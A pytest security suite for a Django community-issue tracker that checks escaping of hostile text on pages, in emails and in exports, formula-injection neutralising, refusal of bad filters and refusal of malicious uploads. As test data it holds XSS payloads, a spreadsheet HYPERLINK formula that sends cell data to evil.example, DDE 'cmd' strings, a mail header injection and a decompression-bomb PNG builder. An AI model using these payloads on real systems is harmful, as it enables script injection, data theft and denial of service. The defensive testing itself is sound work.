"""Hostile input: markup typed into any field stays text on every page, in emails and exports;
exports hold no live formulas; bad filter parameters and bad uploads are refused, never a 500.

Every text field gets its own payload, tagged so that a failure names the field that leaked:
the raw payload must never reach a page, and its escaped form must be where the field is shown.
"""

from __future__ import annotations

import csv
import io
import os
import re
import struct
import time
import uuid
import zlib
from pathlib import Path
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from PIL import Image

from grids.models import Patrol
from issues import notifications, services
from issues.models import Attachment, Category, FollowUp, Issue, Mediation, Notification
from issues.photos import MAX_PIXELS
from issues.tests.factories import FollowUpFactory, IssueFactory, category

pytestmark = pytest.mark.django_db


def payload(tag: str) -> str:
    """Script, an event handler, both quotes and an ampersand, in at most 50 characters."""
    assert len(tag) <= 5
    return f"<script>{tag}</script><img src=x onerror={tag}>\"'&"


# Phone numbers hold 20 characters (PostgreSQL enforces it): the same dangers, shorter.
RESIDENT_PHONE = "<script>'&\"</script>"
LEADER_PHONE = "<script>\"&'</script>"

# Where each payload goes; the tag is the key.
FIELDS = {
    "ti": "issue title",
    "de": "issue description",
    "rn": "resident's name",
    "cm": "comment",
    "pa": "mediation parties",
    "pl": "mediation place",
    "ag": "mediation agreement",
    "re": "resolution",
    "fn": "follow-up visit notes",
    "rr": "reopen reason",
    "ps": "patrol notes at the start",
    "pe": "patrol notes at the end",
    "cy": "courtyard name",
    "ad": "courtyard address",
    "ld": "courtyard leader",
    "gr": "grid name",
    "cn": "community name",
    "sd": "subdistrict name",
    "di": "district name",
    "ca": "category name",
    "ce": "category English name",
    "sf": "staff first name",
    "sl": "staff last name",
    "af": "assignee first name",
    "al": "assignee last name",
    "wf": "grid worker first name",
    "wl": "grid worker last name",
    "of": "official first name",
}


def assert_inert(text: str, *shown: str) -> None:
    """No payload arrives as markup; each tag in `shown` arrives escaped, as text."""
    lowered = text.lower()
    assert "<script>" not in lowered
    assert "<img src=x" not in lowered
    assert "onerror=" not in lowered.replace("&lt;img src=x onerror=", "")
    for tag, what in FIELDS.items():
        assert payload(tag) not in text, f"the {what} is not escaped"
    for tag in shown:
        if tag == "phone":
            assert escape(RESIDENT_PHONE) in text, "the resident's phone is not shown escaped"
        elif tag == "leader_phone":
            assert escape(LEADER_PHONE) in text, "the leader's phone is not shown escaped"
        else:
            assert escape(payload(tag)) in text, f"the {FIELDS[tag]} is not shown escaped"


def page(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


# --- A world where every text field is hostile ----------------------------------------------------


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def world(
    client, media, community, grid, courtyard, staff, assignee, grid_worker, official
) -> dict:
    """Names through the ORM (the admin's job); everything else typed into the app's forms."""
    subdistrict, district = community.subdistrict, community.subdistrict.district
    district.name = payload("di")
    district.save()
    subdistrict.name = payload("sd")
    subdistrict.save()
    community.name = payload("cn")
    community.save()
    grid.name = payload("gr")
    grid.save()
    courtyard.name = payload("cy")
    courtyard.address = payload("ad")
    courtyard.leader_name = payload("ld")
    courtyard.leader_phone = LEADER_PHONE
    courtyard.save()
    for user, first, last in [
        (staff, "sf", "sl"),
        (assignee, "af", "al"),
        (grid_worker, "wf", "wl"),
        (official, "of", None),
    ]:
        user.first_name = payload(first)
        user.last_name = payload(last) if last else ""
        user.save()
    hostile = Category.objects.create(
        code="hostile",
        name=payload("ca"),
        name_en=payload("ce"),
        default_urgency="urgent",
        time_limit_hours=24,
        is_dispute=True,
        follow_up_days=[0, 30],
        sort_order=0,
    )

    # The grid worker walks a patrol and logs the concern found on it.
    client.force_login(grid_worker)
    r = client.post(
        reverse("grids:patrol_start"),
        {"grid": grid.pk, "kind": "safety", "notes": payload("ps")},
    )
    assert r.status_code == 302
    patrol = Patrol.objects.get(grid_worker=grid_worker)
    r = client.post(
        reverse("issues:new"),
        {
            "courtyard": courtyard.pk,
            "category": hostile.pk,
            "urgency": "urgent",
            "title": payload("ti"),
            "description": payload("de"),
            "source": "visit",
            "resident_name": payload("rn"),
            "resident_phone": "",
            "patrol": patrol.pk,
            "token": str(uuid.uuid4()),
        },
    )
    assert r.status_code == 302, r.content.decode()[:2000]
    issue = Issue.objects.get()
    r = client.post(reverse("grids:patrol_end", args=[patrol.pk]), {"notes": payload("pe")})
    assert r.status_code == 302
    # The capture form allows only digits in a phone; an import or the admin might not.
    Issue.objects.filter(pk=issue.pk).update(resident_phone=RESIDENT_PHONE)

    # Staff comment, mediate, list, start and resolve it; the mediator visits the resident.
    client.force_login(staff)
    ref = issue.reference

    def post(name: str, data: dict, *args: object) -> None:
        r = client.post(reverse(name, args=[ref, *args]), data)
        assert r.status_code == 302, r.content.decode()[:3000]

    post("issues:comment", {"note": payload("cm")})
    post(
        "issues:mediation",
        {
            "mediation-mediated_on": timezone.localdate().isoformat(),
            "mediation-parties": payload("pa"),
            "mediation-place": payload("pl"),
            "mediation-method": "in_person",
            "mediation-outcome": "agreement",
            "mediation-agreement": payload("ag"),
        },
    )
    post(
        "issues:transition",
        {"list-seen_status": "collected", "list-assignee": assignee.pk, "list-due_date": ""},
        "list",
    )
    post("issues:transition", {"start-seen_status": "listed"}, "start")
    post(
        "issues:transition",
        {
            "resolve-seen_status": "in_progress",
            "resolve-resolution": payload("re"),
            "resolve-reply": "已答复居民。",
        },
        "resolve",
    )
    issue.refresh_from_db()
    services.schedule_follow_ups(issue)
    first, second = issue.follow_ups.order_by("visit_no")
    r = client.post(
        reverse("issues:followup_record", args=[first.pk]),
        {
            f"visit-{first.pk}-method": "phone",
            f"visit-{first.pk}-satisfaction": "satisfied",
            f"visit-{first.pk}-notes": payload("fn"),
        },
    )
    assert r.status_code == 302
    first.refresh_from_db()
    assert first.notes == payload("fn")

    # A second issue of the courtyard, resolved, is reopened with a hostile reason.
    reopened = IssueFactory(
        courtyard=courtyard,
        category=hostile,
        title=payload("ti"),
        status=Issue.Status.RESOLVED,
        assignee=assignee,
        created_by=grid_worker,
    )
    r = client.post(
        reverse("issues:transition", args=[reopened.reference, "reopen"]),
        {"reopen-seen_status": "resolved", "reopen-reason": payload("rr")},
    )
    assert r.status_code == 302
    # A visit due to the staff member, whose reminder waits in the inbox.
    Notification.objects.create(
        recipient=staff, kind=Notification.Kind.FOLLOW_UP_DUE, issue=issue, follow_up=second
    )
    issue.refresh_from_db()
    return {
        "issue": issue,
        "reopened": reopened,
        "patrol": patrol,
        "visit": second,
    }


# --- Pages ---------------------------------------------------------------------------------------

# Shown to everyone who sees the issue in a list row.
ROW = ("ti", "ca", "cy", "gr", "af", "al")
# The issue page: every text the issue carries, its timeline and the people on it.
DETAIL = (
    "ti",
    "de",
    "rn",
    "phone",
    "cm",
    "pa",
    "pl",
    "ag",
    "re",
    "fn",
    "ca",
    "cy",
    "ld",
    "leader_phone",
    "gr",
    "cn",
    "sf",
    "sl",
    "af",
    "al",
    "wf",
    "wl",
)


def url_of(name: str, world: dict) -> str:
    issue, reopened = world["issue"], world["reopened"]
    return {
        "list": reverse("issues:list") + "?status=all",
        "list_search": reverse("issues:list") + "?q=script&status=all",
        "detail": issue.get_absolute_url(),
        "reopened": reopened.get_absolute_url(),
        "mine": reverse("issues:mine"),
        "created": reverse("issues:created", args=[issue.reference]),
        "new": reverse("issues:new"),
        "duplicates": reverse("issues:duplicates")
        + f"?courtyard={issue.courtyard_id}&category={issue.category_id}",
        "courtyards": reverse("grids:courtyards"),
        "courtyard": reverse("grids:courtyard", args=[issue.courtyard_id]),
        "patrols": reverse("grids:patrols"),
        "patrol": reverse("grids:patrol", args=[world["patrol"].pk]),
        "followups": reverse("issues:followups"),
        "notifications": reverse("issues:notifications"),
        "dashboard": reverse("issues:dashboard"),
        "dashboard_community": reverse("issues:dashboard") + f"?community={issue.community_id}",
        "admin_issues": reverse("admin:issues_issue_changelist"),
        "admin_issue": reverse("admin:issues_issue_change", args=[issue.pk]),
        "admin_courtyards": reverse("admin:grids_courtyard_changelist"),
        "admin_events": reverse("admin:issues_issueevent_changelist"),
        "admin_categories": reverse("admin:issues_category_changelist"),
    }[name]


@pytest.mark.parametrize(
    ("who", "name", "shown"),
    [
        # The staff's list draws the grid and courtyard selects and the community's people.
        ("staff", "list", (*ROW, "sf", "sl", "wf", "wl")),
        ("staff", "list_search", ROW),
        ("official", "list", (*ROW, "sd", "cn", "of")),
        ("grid_worker", "list", (*ROW, "wf", "wl")),
        ("staff", "detail", DETAIL),
        ("grid_worker", "detail", DETAIL),
        ("official", "detail", tuple(t for t in DETAIL if t not in ("rn", "phone"))),
        ("staff", "reopened", ("rr", "cy")),
        ("grid_worker", "mine", ("ti", "cy", "ca", "wf", "wl")),
        ("grid_worker", "created", ("ti", "cy", "ca")),
        ("grid_worker", "new", ("cy", "ca")),
        ("grid_worker", "duplicates", ("ti",)),
        ("grid_worker", "courtyards", ("cy", "cn", "gr", "ad")),
        ("staff", "courtyard", ("cy", "ad", "cn", "gr", "ld", "leader_phone", "ti", "ca")),
        ("grid_worker", "patrols", ("cn", "gr", "wf", "wl")),
        ("staff", "patrol", ("cn", "gr", "wf", "wl", "ps", "pe", "ti", "cy", "ca")),
        ("staff", "followups", ("ti", "cy", "ca", "sf", "sl")),
        ("staff", "notifications", ("ti", "cy")),
        ("assignee", "notifications", ("ti", "cy", "af", "al")),
        ("staff", "dashboard", ("cn", "gr", "ca")),
        ("official", "dashboard", ("sd", "cn", "ca", "of")),
        ("official", "dashboard_community", ("sd", "cn", "gr", "ca")),
        ("district_official", "dashboard", ("di", "sd", "ca")),
        # The admin names users by their username.
        ("admin_user", "admin_issues", ("ti", "ca", "cn")),
        ("admin_user", "admin_issue", ("ti", "de", "rn", "re", "ag")),
        ("admin_user", "admin_courtyards", ("cy", "ad", "ld", "gr", "cn")),
        ("admin_user", "admin_events", ("ti",)),
        ("admin_user", "admin_categories", ("ca", "ce")),
    ],
)
def test_it_shows_every_hostile_text_escaped(client, request, world, who, name, shown):
    client.force_login(request.getfixturevalue(who))

    html = page(client.get(url_of(name, world)))

    assert_inert(html, *shown)


def test_it_reveals_a_hostile_phone_number_escaped(client, official, world):
    client.force_login(official)
    issue = world["issue"]
    assert escape(RESIDENT_PHONE) not in page(client.get(issue.get_absolute_url()))

    r = client.post(reverse("issues:reveal_phone", args=[issue.reference]))

    assert_inert(page(r), "phone")


def test_it_shows_the_english_category_name_escaped(client, staff, world):
    client.force_login(staff)

    html = page(client.get(url_of("list", world), HTTP_ACCEPT_LANGUAGE="en"))

    assert_inert(html, "ce", "ti")


def test_it_answers_htmx_with_escaped_fragments(client, staff, world):
    client.force_login(staff)

    html = page(client.get(url_of("list", world), HTTP_HX_REQUEST="true"))

    assert "<html" not in html
    assert_inert(html, *ROW)


def test_it_keeps_refused_text_escaped(client, staff, world):
    """A refused action gives back what was typed, as text."""
    issue = world["issue"]  # resolved: resolving it again is refused
    client.force_login(staff)

    r = client.post(
        reverse("issues:transition", args=[issue.reference, "resolve"]),
        {
            "resolve-seen_status": "in_progress",
            "resolve-resolution": payload("re"),
            "resolve-reply": "已答复居民。",
        },
    )

    assert r.status_code == 409
    assert_inert(r.content.decode(), "re")


def test_it_redisplays_a_refused_capture_escaped(client, grid_worker, courtyard, media):
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        {
            "courtyard": courtyard.pk,
            "category": category("road").pk,
            "urgency": "normal",
            "title": payload("ti"),
            "description": payload("de"),
            "source": "visit",
            "resident_name": payload("rn"),
            "resident_phone": RESIDENT_PHONE,  # not a phone number: the form is refused
            "token": str(uuid.uuid4()),
        },
    )

    assert r.status_code == 400
    assert not Issue.objects.exists()
    assert_inert(r.content.decode(), "ti", "de", "rn", "phone")


def test_it_escapes_messages_that_repeat_what_was_sent(client, staff, world):
    """Bulk actions and visit records put parts of the request into their messages."""
    client.force_login(staff)
    visit = world["visit"]

    client.post(reverse("issues:bulk"), {"issue": payload("ti"), "action": "list"})
    client.post(
        reverse("issues:followup_record", args=[visit.pk]),
        {f"visit-{visit.pk}-method": payload("fn"), f"visit-{visit.pk}-satisfaction": "x"},
    )
    html = page(client.get(reverse("issues:list")))

    # The bulk message shows the reference as sent, upper-cased.
    assert escape(payload("ti").upper()) in html
    assert "messages" in html
    assert_inert(html)


@pytest.mark.parametrize(
    "name", ["list", "detail", "mine", "courtyards", "patrols", "followups", "notifications"]
)
def test_it_reflects_no_markup_from_the_query_string(client, grid_worker, world, name):
    """Every page puts its own address into the language form; a crafted link stays text."""
    client.force_login(grid_worker)
    url = url_of(name, world)
    sep = "&" if "?" in url else "?"

    html = page(client.get(f'{url}{sep}x="><script>alert(1)</script>&q=<img src=x onerror=1>'))

    assert "<script>alert(1)" not in html
    assert "<img src=x" not in html


def test_it_reflects_a_hostile_search_escaped(client, staff, world):
    client.force_login(staff)

    html = page(client.get(reverse("issues:list"), {"q": '"><script>x</script>'}))

    assert "<script>x" not in html
    assert escape('"><script>x</script>') in html


# --- Emails --------------------------------------------------------------------------------------


def test_it_emails_hostile_text_as_plain_text_only(world, staff, assignee):
    Notification.objects.filter(recipient__in=[staff, assignee]).update(read_at=None)
    ids = list(Notification.objects.values_list("pk", flat=True))
    assert len(ids) >= 3  # urgent (staff), assigned (assignee), the visit (staff)
    mail.outbox.clear()

    notifications.deliver(ids)

    assert len(mail.outbox) == len(ids)
    for message in mail.outbox:
        # Only a plain-text part: no mail client renders any of it as HTML.
        assert message.content_subtype == "plain"
        for _content, mimetype in getattr(message, "alternatives", []):
            assert "html" not in mimetype
        # One header line: text in the title cannot add headers.
        assert "\n" not in message.subject
        assert "\r" not in message.subject
        # Plain text shows the title as typed, not entity-encoded.
        assert payload("ti") in message.subject
        assert payload("ti") in message.body
        assert "&lt;" not in message.body + message.subject
        message.message().as_bytes()  # it serialises


def test_it_keeps_a_title_from_adding_mail_headers(courtyard, staff):
    issue = IssueFactory(courtyard=courtyard, title="水管\r\nBcc: victim@example.org\r\n\r\nhi")
    row = Notification.objects.create(recipient=staff, kind="urgent", issue=issue)
    mail.outbox.clear()

    notifications.deliver([row.pk])

    message = mail.outbox[0]
    assert message.recipients() == [staff.email]
    assert message.message()["Bcc"] is None
    assert "\n" not in message.subject
    assert "Bcc: victim@example.org" in message.subject


# --- Exports -------------------------------------------------------------------------------------

CSV = reverse("issues:export_csv")
XLSX = reverse("issues:export_xlsx")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def xlsx_rows(response) -> list[list[object]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    for row in sheet.iter_rows():
        for cell in row:
            # No formula cells (data type "f"): text, numbers and empty cells only.
            assert cell.data_type in ("s", "inlineStr", "n"), (cell.coordinate, cell.value)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def lines(value: object) -> object:
    """A workbook's XML turns a carriage return into a line feed: compare them as one."""
    return value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value


def assert_no_formula(rows: list[list[object]]) -> None:
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_START), value


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
@pytest.mark.parametrize("who", ["staff", "official"])
def test_it_exports_hostile_text_as_inert_text(client, request, world, read, who):
    client.force_login(request.getfixturevalue(who))

    rows = read(client.get(CSV if read is csv_rows else XLSX, {"status": "all"}))

    cells = {v for row in rows[1:] for v in row if isinstance(v, str)}
    expected = ["ti", "ca", "cy", "gr", "cn", "sd", "di", "de", "re"]
    if who == "staff":
        expected.append("rn")
        assert RESIDENT_PHONE in cells
    for tag in expected:
        assert payload(tag) in cells, FIELDS[tag]
    assert_no_formula(rows)


HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "resident_name": "-2+3+cmd|' /C calc'!A0",
    "resolution": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_world(community, grid, courtyard, assignee):
    grid.name = "=1+1"
    grid.save()
    courtyard.name = "\t=2+2"
    courtyard.save()
    community.name = "\r=3+3"
    community.save()
    assignee.first_name = "@A1"
    assignee.save()
    cat = category("road")
    Category.objects.filter(pk=cat.pk).update(name="-1+1", name_en="-1+1")
    return IssueFactory(
        courtyard=courtyard,
        assignee=assignee,
        category=cat,
        resident_phone="+8613812341234",
        **HOSTILE_CELLS,
    )


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_it_neutralises_every_formula_start_in_the_issue_export(client, staff, formula_world, read):
    client.force_login(staff)

    rows = read(client.get(CSV if read is csv_rows else XLSX))

    assert_no_formula(rows)
    row = {lines(v) for v in next(r for r in rows if r[0] == formula_world.reference)}
    for value in [*HOSTILE_CELLS.values(), "=1+1", "\t=2+2", "\r=3+3", "@A1", "-1+1"]:
        assert lines("'" + value) in row, value
    assert "'+8613812341234" in row


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("who", ["staff", "official"])
def test_it_neutralises_formulas_in_the_dashboard_download(
    client, request, formula_world, fmt, who
):
    client.force_login(request.getfixturevalue(who))

    r = client.get(reverse("issues:dashboard"), {"format": fmt})

    assert r.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(r.content.decode().removeprefix("\ufeff"))))
    else:
        body = b"".join(r.streaming_content)
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        assert all(c.data_type in ("s", "inlineStr", "n") for row in sheet.iter_rows() for c in row)
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert_no_formula(rows)
    names = {lines(v) for row in rows for v in row}
    assert lines("'=1+1" if who == "staff" else "'\r=3+3") in names
    assert "'-1+1" in names


CONTROL = "控制\x01\x02\x08\x0b\x0c\x0e\x1b\x1f\x7f\ufffe\uffff字符"


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_it_exports_text_with_control_characters(client, staff, grid_worker, courtyard, read):
    """The capture form takes any character but NUL; a workbook cannot hold C0 controls, nor
    U+FFFE and U+FFFF (openpyxl writes them into a file no spreadsheet opens)."""
    client.force_login(grid_worker)
    r = client.post(
        reverse("issues:new"),
        {
            "courtyard": courtyard.pk,
            "category": category("road").pk,
            "urgency": "normal",
            "title": CONTROL,
            "description": CONTROL,
            "source": "visit",
            "resident_name": CONTROL[:10],
            "token": str(uuid.uuid4()),
        },
    )
    assert r.status_code == 302
    courtyard.name = CONTROL
    courtyard.save()
    client.force_login(staff)

    rows = read(client.get(CSV if read is csv_rows else XLSX))

    title = rows[1][1]
    assert title.startswith("控制")
    assert title.endswith("字符")
    assert rows[1][10].startswith("控制")


def test_it_downloads_the_dashboard_with_control_characters_in_names(client, official, community):
    community.name = "社区\x01\x1b"
    community.save()
    IssueFactory(community=community)
    client.force_login(official)

    r = client.get(reverse("issues:dashboard"), {"format": "xlsx"})

    assert r.status_code == 200
    body = b"".join(r.streaming_content)
    names = [row[0] for row in openpyxl.load_workbook(io.BytesIO(body)).active.values]
    assert any(str(n).startswith("社区") for n in names)


# --- Filter parameters of the wrong type or absurd size ------------------------------------------

# Raw query strings, sent as a client would send them: percent-encoded bytes, NULs,
# UTF-8 that encodes a surrogate, bytes that are no UTF-8 at all.
BAD_QUERIES = [
    "page=abc",
    "page=-1",
    "page=0",
    f"page={10**30}",
    "page=1.5",
    "page=1&page=abc&page=-3",
    "status=nonsense",
    "status=open&status=%00",
    "status=" + "x" * 5000,
    "category=999999999999999999999",
    "category=-1",
    "category=1.5",
    "category=%00",
    "category=1&category=abc",
    "grid=abc",
    "grid=%C2%B2",  # "²": a digit to str.isdigit(), not to int()
    "grid=%D9%A3",  # "٣": an Arabic-Indic digit
    "courtyard=%00",
    "courtyard=1e3",
    "community=99999999999999999999",
    "subdistrict=abc",
    "assignee=%C2%B2",
    "assignee=99999999999",
    "assignee=999999999999999999999999",
    "assignee=me&assignee=abc",
    "created_after=2026-13-45",
    "created_before=0000-00-00",
    "created_after=99999-01-01",
    "resolved_after=9999-99-99",
    "resolved_before=2026-02-30",
    "mediated_after=abc",
    "visited_before=0001-01-01",
    "visit=bogus",
    "overdue=maybe",
    "on_time=%00",
    "urgency=%00",
    "source=%ED%A0%80",
    "sort=;drop",
    "sort=-overdue",
    "sort=" + "-" * 3000,
    "sort=%00",
    "q=" + "x" * 10_000,
    "q=" + "路" * 10_000,
    "q=%00",
    "q=a%00b",
    "q=%ED%A0%80",  # UTF-8 of a lone surrogate
    "q=%ED%B0%80%ED%A0%80",
    "q=%FF%FE%FD",  # no UTF-8 at all
    "q=%F0%9F%92%A9%E2%80%AE",  # an emoji and a right-to-left override
    "q=%27%22%3B--%20%2F*",
    "q=%25%5F%5C",  # LIKE wildcards and the escape character
    "q=ab%3A*%20%7C%20%21cd",  # tsquery operators
    "q=ABCD-EFGH",
    "q=%20%20%20",
    "period=custom&from=2026-13-45&to=abc",
    "period=custom&from=0001-01-01&to=9999-12-31",
    "period=custom&from=2026-01-02&to=2026-01-01",
    "period=custom",
    "period=%00",
    "period=" + "9" * 3000,
    "format=pdf",
    "format=csv&sort=%00",
    "format=xlsx&period=custom&from=1900-01-01&to=1900-01-02",
    "%%%",
    "=&=&&==",
    "q",
    "x" * 5000 + "=1",
    "&".join(f"k{i}=v" for i in range(1500)),  # more fields than Django parses
]

# Answers 404 by design: an area outside the user's scope, or not an area at all, is not found.
DASHBOARD_AREA = {
    "grid=abc",
    "subdistrict=abc",
    "grid=%D9%A3",
    "grid=%C2%B2",
    "community=99999999999999999999",
}
DASHBOARD = reverse("issues:dashboard")


def get(client, url: str, query: str):
    r = client.get(f"{url}?{query}")
    if r.streaming and r.status_code == 200:
        b"".join(r.streaming_content)  # an error while streaming is a 500 too
    return r


FILTERED = [reverse("issues:list"), DASHBOARD, CSV, XLSX]
# Pages that take no filters: a bad parameter must not trouble them either.
UNFILTERED = [
    ("grid_worker", reverse("issues:mine")),
    ("grid_worker", reverse("issues:followups")),
    ("grid_worker", reverse("grids:courtyards")),
    ("grid_worker", reverse("grids:patrols")),
    ("staff", reverse("issues:notifications")),
]


@pytest.mark.parametrize(
    ("who", "url"),
    [(who, url) for url in FILTERED for who in ("staff", "official", "grid_worker")] + UNFILTERED,
)
def test_it_answers_bad_filters_with_200_or_400(client, request, who, url, courtyard):
    IssueFactory(courtyard=courtyard)
    client.force_login(request.getfixturevalue(who))
    client.raise_request_exception = False  # collect every 500, not only the first
    wrong = []

    for query in BAD_QUERIES:
        try:
            status = get(client, url, query).status_code
        except Exception as e:  # a failure while streaming
            status = f"{type(e).__name__}: {e}"
        allowed = {200, 400} | ({404} if url == DASHBOARD and query in DASHBOARD_AREA else set())
        if status not in allowed:
            wrong.append((query[:60], status))

    print("WRONG", *wrong, sep="\n")
    assert wrong == []


# str.isdigit() also takes "²" and "¹²", which int() refuses: ids are checked as ASCII digits.


@pytest.mark.parametrize("level", ["district", "subdistrict", "community", "grid"])
def test_it_refuses_an_area_that_only_looks_like_a_number(client, official, level):
    client.force_login(official)

    r = client.get(DASHBOARD, {level: "²"})

    assert r.status_code in (400, 404)


def test_it_hints_nothing_for_a_courtyard_that_only_looks_like_a_number(
    client, grid_worker, courtyard
):
    client.force_login(grid_worker)

    r = client.get(reverse("issues:duplicates"), {"courtyard": "²", "category": "1"})

    assert r.status_code == 200


def test_it_marks_nothing_read_for_an_id_that_only_looks_like_a_number(client, staff):
    client.force_login(staff)

    r = client.post(reverse("issues:notifications_read"), {"id": "²"})

    assert r.status_code == 302


def test_it_assigns_nobody_that_only_looks_like_a_number(client, staff, courtyard):
    issue = IssueFactory(courtyard=courtyard, status=Issue.Status.LISTED)
    client.force_login(staff)

    r = client.post(
        reverse("issues:bulk"), {"issue": issue.reference, "action": "assign", "assignee": "²"}
    )

    assert r.status_code == 302
    issue.refresh_from_db()
    assert issue.assignee is None


@pytest.mark.parametrize(
    "query",
    [
        "page=abc",
        "page=-1",
        f"page={10**30}",
        "category=999999999999999999999",
        "sort=;drop",
        "sort=" + "-" * 3000,
        "x" * 5000 + "=1",
    ],
    ids=lambda q: q[:40],
)
def test_it_ignores_parameters_it_cannot_use(client, staff, courtyard, query):
    """Where a page, sort or unknown key cannot be used the list still shows, unfiltered."""
    issue = IssueFactory(courtyard=courtyard)
    client.force_login(staff)

    r = get(client, reverse("issues:list"), query)

    if r.status_code == 200:
        assert issue.reference in r.content.decode()
    else:
        assert r.status_code == 400
        assert "alert-error" in r.content.decode()


@pytest.mark.parametrize(
    "query",
    ["status=nonsense", "grid=abc", "created_after=2026-13-45", "q=" + "x" * 10_000, "q=a%00b"],
    ids=lambda q: q[:40],
)
def test_it_names_the_bad_filter_in_a_400(client, staff, courtyard, query):
    IssueFactory(courtyard=courtyard)
    client.force_login(staff)

    r = get(client, reverse("issues:list"), query)

    assert r.status_code == 400
    html = r.content.decode()
    assert "alert-error" in html
    assert r.context.get("page") is None


@pytest.mark.parametrize("value", ["²", "¹²", "٣", "໓"])
def test_it_refuses_an_assignee_that_only_looks_like_a_number(client, staff, courtyard, value):
    """str.isdigit() takes superscripts and other scripts' digits; int() takes only some."""
    IssueFactory(courtyard=courtyard)
    client.force_login(staff)

    r = client.get(reverse("issues:list"), {"assignee": value})

    assert r.status_code == 400


# --- Uploads -------------------------------------------------------------------------------------


def files_under(root: Path) -> list[Path]:
    return (
        [Path(d) / f for d, _dirs, files in os.walk(root) for f in files] if root.exists() else []
    )


def png(side: int = 64) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (side, side), "red").save(out, "PNG")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A small, valid PNG whose header claims width × height pixels (its data is one row)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = zlib.compress(b"\x00" * (1 + (width + 7) // 8), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def capture(courtyard, **extra) -> dict:
    return {
        "courtyard": courtyard.pk,
        "category": category("road").pk,
        "urgency": "normal",
        "title": "井盖破损",
        "description": "三单元门口的井盖裂开了。",
        "source": "visit",
        "resident_name": "卓玛",
        "resident_phone": "13912345678",
        "token": str(uuid.uuid4()),
        **extra,
    }


def assert_refused(r, media: Path, message: str) -> None:
    assert r.status_code == 400
    html = r.content.decode()
    assert message in html
    assert "errorlist" in html
    # The typed text is back in the form.
    assert 'value="井盖破损"' in html
    assert "三单元门口的井盖裂开了。" in html
    assert 'value="卓玛"' in html
    assert not Issue.objects.exists()
    assert not Attachment.objects.exists()
    assert files_under(media) == []


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
POLYGLOT = b"GIF89a/*<script>alert(1)</script>*/"


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("photo.jpg", b"just some text, not a photo", "image/jpeg"),
        ("photo.jpg", HTML, "image/jpeg"),
        ("photo.jpg", PDF, "image/jpeg"),
        ("photo.png", SVG, "image/png"),
        ("photo.gif", POLYGLOT, "image/gif"),
        ("photo.jpg", b"", "image/jpeg"),
        ("photo.jpg", png()[:60], "image/jpeg"),  # a truncated image
        ("photo.tiff", b"II*\x00" + b"\x00" * 64, "image/tiff"),
    ],
    ids=["text", "html", "pdf", "svg", "gif-polyglot", "empty", "truncated", "tiff"],
)
def test_it_refuses_a_file_that_is_not_a_photo_whatever_its_name(
    client, grid_worker, courtyard, media, name, content, content_type
):
    client.force_login(grid_worker)
    upload = SimpleUploadedFile(name, content, content_type)

    r = client.post(reverse("issues:new"), capture(courtyard, photos=[upload]))

    assert_refused(r, media, name)


@pytest.mark.parametrize(("width", "height"), [(30_000, 30_000), (60_001, 1000), (1, 2**31 - 1)])
def test_it_refuses_a_decompression_bomb(client, grid_worker, courtyard, media, width, height):
    bomb = png_claiming(width, height)
    assert len(bomb) < 10_000
    assert width * height > MAX_PIXELS
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        capture(courtyard, photos=[SimpleUploadedFile("bomb.png", bomb, "image/png")]),
    )

    assert_refused(r, media, "bomb.png")


def test_it_refuses_a_50_mb_file(client, grid_worker, courtyard, media, settings):
    assert settings.MAX_PHOTO_BYTES < 50 * 1024 * 1024
    big = png() + os.urandom(50 * 1024 * 1024)
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        capture(courtyard, photos=[SimpleUploadedFile("big.jpg", big, "image/jpeg")]),
    )

    assert_refused(r, media, "big.jpg")


def test_it_refuses_more_files_than_a_request_may_carry(client, grid_worker, courtyard, media):
    """Past DATA_UPLOAD_MAX_NUMBER_FILES Django refuses the request before any form runs."""
    client.force_login(grid_worker)
    uploads = [SimpleUploadedFile(f"p{i}.png", b"x", "image/png") for i in range(101)]

    r = client.post(reverse("issues:new"), capture(courtyard, photos=uploads))

    assert r.status_code == 400
    assert not Issue.objects.exists()
    assert files_under(media) == []


